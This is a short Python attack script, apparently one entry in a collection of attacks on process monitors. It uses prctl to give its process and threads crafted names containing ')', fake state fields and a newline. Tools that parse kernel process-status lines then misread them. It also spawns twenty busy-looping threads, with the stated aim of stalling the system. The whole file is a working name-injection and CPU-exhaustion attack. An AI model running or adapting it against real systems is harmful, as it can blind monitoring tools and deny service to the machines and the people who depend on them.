"""Gives its process and threads names in which the kernel's lines about it seem to end, and loops.

Aim: stall
"""

import ctypes
import threading

libc = ctypes.CDLL(None)


def rename(name):
    libc.prctl(15, ctypes.c_char_p(name), 0, 0, 0)


def busy():
    rename(b") S 1 1 (x")
    while True:
        pass


def attack(*args, **kwargs):
    rename(b"a) R 0 0\n(0 9")
    for _ in range(20):
        threading.Thread(target=busy, daemon=True).start()
    while True:
        pass
